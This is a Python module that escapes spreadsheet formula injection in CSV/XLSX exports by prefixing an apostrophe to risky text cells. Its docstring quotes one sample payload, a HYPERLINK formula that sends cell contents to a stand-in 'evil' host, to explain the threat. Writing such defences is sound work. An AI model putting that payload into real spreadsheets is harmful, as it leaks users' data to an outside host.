"""Spreadsheet formula injection (CSV/XLSX exports): text that a spreadsheet would run.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read
by Excel/LibreOffice/Sheets as a formula (``=HYPERLINK("http://evil/?"&A1, "클릭")``). Every
exporter writes text cells through :func:`escape_formula`, which prefixes such text with an
apostrophe (OWASP "CSV Injection"): the cell shows the text and runs nothing. Numbers, dates
and ``None`` pass unchanged (a negative number is a number, not text).
"""

from __future__ import annotations

from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def escape_formula(value: Any) -> Any:
    """``'=1+2'`` → ``"'=1+2"``; anything that is not text, or safe text, unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value
